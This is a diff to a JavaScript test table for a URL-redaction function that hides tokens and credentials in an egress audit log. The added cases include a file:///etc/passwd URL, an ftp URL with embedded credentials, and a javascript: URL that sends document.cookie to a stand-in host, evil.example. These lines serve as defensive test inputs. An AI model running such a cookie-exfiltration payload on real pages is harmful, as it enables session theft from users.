@@ -12,7 +12,10 @@ describe('core/egress/redactUrl: what the audit log and messages show', () => {
     ['a long hex token', 'https://x.example/reset/0123456789abcdef0123456789abcdef', 'https://x.example/reset/[redacted]'],
     ['a mixed-case opaque token', 'https://x.example/s/Ab3dEf9hIjKlMn0pQrStUvWx', 'https://x.example/s/[redacted]'],
     ['a long slug stays readable', 'https://blog.example/2024/a-very-long-post-title-about-egress-firewalls', 'https://blog.example/2024/a-very-long-post-title-about-egress-firewalls'],
-    ['not http', 'file:///etc/passwd', 'file:[redacted]'],
+    ['a local file: no host, all payload', 'file:///etc/passwd', 'file:[redacted]'],
+    ['another scheme with a host: shown like http, credentials and query dropped', 'ftp://me:pw@example.com/pub/x?y=1', 'ftp://example.com/pub/x?[redacted]'],
+    ['a hostless scheme carries its payload in the path', 'mailto:boss@example.com?subject=sk-abcdef1234567890', 'mailto:[redacted]'],
+    ['script URL', 'javascript:fetch("https://evil.example/?"+document.cookie)', 'javascript:[redacted]'],
     ['unparsable', 'not a url', '[unparsable URL]'],
   ];
   for (const [name, input, expected] of rows) it(`${name}`, () => assert.equal(redactUrl(input), expected));
